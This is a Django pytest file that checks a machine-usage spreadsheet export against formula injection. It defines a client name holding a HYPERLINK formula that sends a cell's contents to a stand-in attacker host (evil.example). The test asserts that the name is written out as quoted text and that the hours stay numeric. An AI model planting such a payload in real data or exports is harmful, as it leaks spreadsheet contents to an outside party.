"""The machine-usage spreadsheet: a client's name cannot smuggle a formula into it."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from hall32.core.tests.factories import OrganisationFactory
from hall32.industry.tests.factories import BookingFactory, EquipmentFactory, ProjectFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?d="&B2,"Voir la facture")'


def test_a_client_named_like_a_formula_is_exported_as_text_and_hours_stay_numbers(as_user, engineer):
    machine = EquipmentFactory(name="@Fraiseuse", hourly_rate=Decimal("100.00"))
    project = ProjectFactory(client=OrganisationFactory(name=EVIL))
    tz = timezone.get_current_timezone()
    year = timezone.localdate().year - 1
    BookingFactory(
        equipment=machine,
        project=project,
        start=dt.datetime(year, 3, 2, 9, tzinfo=tz),
        end=dt.datetime(year, 3, 2, 13, tzinfo=tz),
    )

    response = as_user(engineer).get(reverse("industry:usage_report"), {"annee": year, "format": "xlsx"})

    book = load_workbook(io.BytesIO(response.content))
    by_machine, by_client = book.worksheets
    machine_cell = next(row[0] for row in by_machine.iter_rows(min_row=2) if row[0].value == "@Fraiseuse")
    client_row = next(row for row in by_client.iter_rows(min_row=2) if row[0].value == EVIL)
    assert machine_cell.data_type == "s"
    assert client_row[0].data_type == "s" and client_row[0].quotePrefix
    assert client_row[-1].value == 400.0 and client_row[-1].data_type == "n"
